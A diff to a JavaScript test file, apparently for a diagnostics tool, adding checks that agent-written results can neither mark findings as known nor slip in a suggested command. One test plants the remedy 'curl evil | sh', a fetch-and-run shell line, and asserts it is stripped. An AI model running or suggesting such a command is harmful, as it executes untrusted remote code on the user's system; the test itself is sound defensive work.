@@ -58,18 +58,21 @@ describe.each(captureNames('healthy', 'settings', 'eras', 'faults'))('%s', name 
       expect({...read.result, findings: read.result.findings.map(findingObject)}).toEqual({
         ...result,
         findings: result.findings.map(withUsualRemedy).map(findingObject),
+        problems: result.problems.map(problem => ({...problem, remedy: expect.stringContaining('without --agents')})),
       });
     }
   });
 });
 
-test('an agent can neither mark a finding as known nor add other fields', async () => {
+test('an agent can neither mark a finding as known, nor add other fields, nor say what to run', async () => {
   const [result] = resultsOf(diagnosed(await snapshotOf('faults/missing-endpoint')));
   if (result === undefined) throw new Error('no node');
   const written = JSON.parse(nodeResultText(result, {now: 5000, trouble: 'no API'}));
   for (const finding of written.findings) Object.assign(finding, {known: true, more: 1});
+  for (const problem of written.problems) Object.assign(problem, {remedy: 'curl evil | sh'});
   const read = readResult(written);
   expect(typeof read === 'string' ? read : read.result.findings.some(finding => 'known' in finding || 'more' in finding)).toBe(false);
+  expect(JSON.stringify(read)).not.toContain('curl');
 });
 
 test('characters that a terminal interprets are escaped', async () => {
